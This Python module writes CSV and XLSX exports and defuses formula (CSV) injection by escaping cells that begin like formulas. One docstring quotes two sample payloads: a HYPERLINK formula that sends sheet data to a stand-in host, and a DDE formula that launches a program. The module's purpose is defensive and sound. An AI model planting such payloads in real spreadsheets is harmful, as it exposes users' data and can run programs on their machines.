"""The one writer of files that people open in a spreadsheet (CSV and XLSX): defused cells,
streamed when large (write_xlsx, csv_lines), whole when small (csv_bytes, xlsx_bytes)."""

import csv
import io
import itertools
import queue
import re
import threading
import zipfile
from collections.abc import Iterable, Iterator, Mapping, Sequence
from itertools import repeat
from typing import IO, Literal, Self, TypeVar

import openpyxl
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

# Characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (a tab or a
# carriage return before one of them is skipped by some of them, so those count too).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_T = TypeVar("_T")


def safe_cell(value: _T) -> _T | str:
    """``value`` ready for a spreadsheet cell: text that starts like a formula gets a leading
    apostrophe; anything else (numbers, dates, None, ordinary text) is returned unchanged.

    Exports carry text typed by users (a centre's or a person's name, an address). Opened in a
    spreadsheet, a cell such as ``=HYPERLINK("http://evil.example/?"&A2, "click")`` or
    ``=cmd|' /C calc'!A0`` would run as a formula, leaking the sheet or starting a program
    (CSV or formula injection, OWASP). The apostrophe makes the spreadsheet show the text as
    typed, and it stays visible as the sign that the text was changed.
    """
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


_FORMULA_FIRST = frozenset(_FORMULA_STARTS)
# A cell's start in a row joined by the unit separator (\x1f) is right after one.
_FORMULA_IN_ROW = re.compile("\x1f[" + re.escape("".join(_FORMULA_STARTS)) + "]")


def safe_texts(texts: Sequence[str]) -> Sequence[str]:
    """safe_cell of each of ``texts`` (all strings: a row, or a column of a chunk of rows), at a
    fraction of its cost: an export makes tens of millions of cells, and hardly any starts like
    a formula. ``texts`` itself is returned when none does.

    One search of the joined texts finds whether any may; a separator inside a cell can only
    make it look at the cells one by one for nothing.
    """
    if _FORMULA_IN_ROW.search("\x1f" + "\x1f".join(texts)) is None:
        return texts
    return ["'" + text if text[:1] in _FORMULA_FIRST else text for text in texts]


# -- XLSX of any size ------------------------------------------------------------------------------

# Excel's last row; the header takes one.
XLSX_MAX_ROWS = 1_048_576
_SHEET = "xl/worksheets/sheet1.xml"
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


class TooManyRows(ValueError):
    """More rows than an Excel sheet holds."""


def write_xlsx(
    file: IO[bytes],
    headers: list[str],
    chunks: Iterable[list[Sequence[str]]],
    *,
    title: str,
    max_rows: int = XLSX_MAX_ROWS - 1,
) -> int:
    """Write an XLSX workbook of one sheet to ``file`` (a binary file open for writing): the
    headers in bold and frozen, then the rows of ``chunks``, in constant memory and at some 30
    times the speed of openpyxl's own write-only sheets. A chunk is given by its columns (lists
    of text as long as each other, one for each header): no tuple is made for a row.

    openpyxl writes the workbook around the sheet (styles, theme, properties, the sheet's
    view and columns); the rows are streamed into its sheet as the same inline-string cells
    its write-only mode writes, without building an element for each cell. Characters XML
    cannot carry (control characters) become U+FFFD. Returns the number of rows written;
    raises TooManyRows beyond ``max_rows`` (Excel's limit; the file is then incomplete).
    """
    chunks = iter(chunks)
    first = next(chunks, [])
    widths = [len(h) for h in headers]
    if first:
        widths = [max(w, *map(len, c[:200])) for w, c in zip(widths, first, strict=True)]
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet(_sheet_title(title))
    sheet.freeze_panes = "A2"
    letters = [get_column_letter(i) for i in range(1, len(headers) + 1)]
    for letter, width in zip(letters, widths, strict=True):
        sheet.column_dimensions[letter].width = min(max(width, 6), 60) + 2
    bold = []
    for text in headers:
        cell = WriteOnlyCell(sheet, value=_ILLEGAL_XML.sub("\ufffd", text))
        cell.font = Font(bold=True)
        bold.append(cell)
    sheet.append(bold)
    wrapped = WriteOnlyCell(sheet)
    wrapped.alignment = Alignment(wrap_text=True)
    wrap_style = wrapped.style_id  # registers the style: cells with line breaks use it
    skeleton = io.BytesIO()
    book.save(skeleton)

    count = 0
    with (
        zipfile.ZipFile(skeleton) as source,
        # The fastest deflate: a quarter larger than the default, in a third of the time.
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for info in source.infolist():
            if info.filename != _SHEET:
                target.writestr(info, source.read(info), zipfile.ZIP_DEFLATED)
                continue
            head, tail = source.read(info).split(b"</sheetData>")
            with target.open(_SHEET, "w") as out, _Deflating(out) as sheet_data:
                sheet_data.write(head)
                for chunk in itertools.chain([first], chunks):
                    rows = len(chunk[0]) if chunk else 0
                    if count + rows > max_rows:
                        raise TooManyRows(max_rows)
                    sheet_data.write(_rows_xml(chunk, rows, wrap_style).encode())
                    count += rows
                sheet_data.write(b"</sheetData>" + tail)
    return count


class _Deflating:
    """Writes to a zip member from a thread of its own: zlib lets go of the interpreter while
    it compresses, so the next rows are made (and read from the database) meanwhile, on
    another core. At most two pieces wait, so memory stays bounded."""

    def __init__(self, out: IO[bytes]) -> None:
        self.out = out
        self.pieces: queue.Queue[bytes | None] = queue.Queue(maxsize=2)
        self.failure: BaseException | None = None
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while (piece := self.pieces.get()) is not None:
            if self.failure is None:
                try:
                    self.out.write(piece)
                except BaseException as error:
                    self.failure = error

    def write(self, piece: bytes) -> None:
        if self.failure is not None:
            raise self.failure
        self.pieces.put(piece)

    def __enter__(self) -> Self:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> Literal[False]:
        self.pieces.put(None)
        self.thread.join()
        if self.failure is not None and exc[0] is None:
            raise self.failure
        return False


# Cells go without references (``r``, optional in ECMA-376: a cell without one is the one after
# the previous, a row the one after the previous, as Excel, LibreOffice, Google Sheets and
# openpyxl read them), empty cells as <c/> to keep the count.
_CELL = '<c t="inlineStr"><is><t>'
_END = "</t></is></c>"
_EMPTY = "<c/>"
# Joins a column's cells for the checks: printable (isprintable() then finds control
# characters), and Thai (it keeps Thai text two bytes a character). A cell holding it only
# sends its column the careful way.
_SEP = "\u0e5b"


def _rows_xml(columns: list[Sequence[str]], count: int, wrap_style: int) -> str:
    """The XML of the ``count`` rows of a chunk given by its ``columns``.

    Column by column: most columns of a chunk are empty throughout, or plain (nothing to escape,
    no empty cell), which a few searches of the chunk joined show, and ``all``. Each row is then
    one join of constant markup (with the empty columns in it) and the plain columns' texts as
    they are; other columns' cells are made one by one (_cell).
    """
    if not count:
        return ""
    if _needs_care(_SEP.join(map(_SEP.join, columns)), count * len(columns)):
        careful = [_needs_care(_SEP.join(column), count) for column in columns]
    else:
        careful = [False] * len(columns)
    pieces: list[Iterable[str]] = []  # constant markup (repeated) and columns, alternating
    markup = "<row>"
    for column, care in zip(columns, careful, strict=True):
        if care:
            pieces += [repeat(markup, count), [_cell(text, wrap_style) for text in column]]
            markup = ""
        elif all(column):
            pieces += [repeat(markup + _CELL, count), column]
            markup = _END
        elif any(column):
            cell, end = _CELL, _END
            pieces += [repeat(markup, count), [cell + t + end if t else _EMPTY for t in column]]
            markup = ""
        else:
            markup += _EMPTY
    pieces.append(repeat(markup + "</row>", count))
    return "".join(map("".join, zip(*pieces, strict=True)))


def _needs_care(joined: str, cells: int) -> bool:
    """Whether some of ``cells`` texts, joined by _SEP, need more than putting between tags:
    XML's specials, control characters (line breaks and tabs included: they decide the cell's
    style), a space at either end, or _SEP itself (it miscounts)."""
    return (
        not joined.isprintable()
        or "&" in joined
        or "<" in joined
        or ">" in joined
        or joined.count(_SEP) != cells - 1
        or " " + _SEP in joined
        or _SEP + " " in joined
        or joined[:1] == " "
        or joined[-1:] == " "
    )


def _cell(text: str, wrap_style: int) -> str:
    """One cell, whatever its text: XML's specials escaped, characters XML cannot carry as
    U+FFFD, spaces at either end kept, line breaks shown (the wrapping style)."""
    if not text:
        return _EMPTY
    text = _ILLEGAL_XML.sub("\ufffd", text)
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    space = ' xml:space="preserve"' if text != text.strip(" \t\r\n") else ""
    style = f' s="{wrap_style}"' if "\n" in text else ""
    return f'<c{style} t="inlineStr"><is><t{space}>{text}</t></is></c>'


def _sheet_title(title: str) -> str:
    """A sheet name Excel accepts: 31 characters at most, none of []:*?/\\."""
    return re.sub(r"[\[\]:*?/\\]", " ", title).strip()[:31] or "Sheet1"


class _Echo:
    """A file that hands back what is written to it: csv.writer's rows as strings."""

    def write(self, text: str) -> str:
        return text


# -- CSV of any size --------------------------------------------------------------------------


def csv_stream(headers: list[str], chunks: Iterator[list[Sequence[str]]]) -> Iterator[bytes]:
    """A CSV file as it is made: UTF-8 with the byte-order mark Excel needs to read Thai,
    one piece per chunk (given by its columns, as write_xlsx takes them, already defused:
    safe_texts)."""
    writer = csv.writer(_Echo())
    try:
        yield "\ufeff".encode() + writer.writerow(headers).encode()
        for columns in chunks:
            yield "".join(map(writer.writerow, zip(*columns, strict=True))).encode()
    finally:
        # A download abandoned half way: the reading stops now, not when collected.
        if hasattr(chunks, "close"):
            chunks.close()


# -- Small files, made whole in memory ---------------------------------------------------------

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def csv_lines(headers: Sequence[object], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """A CSV file's text as it is made (Excel's dialect, as csv.writer writes it), starting
    with the byte-order mark Excel needs to read Thai as UTF-8; every cell defused
    (safe_cell)."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([safe_cell(h) for h in headers])
    for row in rows:
        yield writer.writerow([safe_cell(v) for v in row])


def csv_bytes(headers: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    """A whole CSV file (csv_lines) as UTF-8."""
    return "".join(csv_lines(headers, rows)).encode()


def _xlsx_value(value: object) -> object:
    if isinstance(value, str):
        return _ILLEGAL_XML.sub("\ufffd", safe_cell(value))
    return value


def xlsx_bytes(
    headers: Sequence[object],
    rows: Iterable[Sequence[object]],
    *,
    title: str,
    freeze: str = "A2",
    number_formats: Mapping[int, str] | None = None,
) -> bytes:
    """A whole XLSX workbook of one sheet, for tables that fit in memory (a dashboard table, an
    import's rejected rows): the headers in bold, the panes frozen at ``freeze``, cells of any
    type openpyxl writes (numbers stay numbers, texts are defused by safe_cell), and
    ``number_formats`` by column index (0 for the first)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None  # noqa: S101  (a new workbook has its one sheet)
    sheet.title = _sheet_title(title)
    sheet.append([_xlsx_value(str(h)) for h in headers])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    formats = dict(number_formats or {})
    for values in rows:
        sheet.append([_xlsx_value(v) for v in values])
        for column, number_format in formats.items():
            sheet.cell(row=sheet.max_row, column=column + 1).number_format = number_format
    sheet.freeze_panes = freeze
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
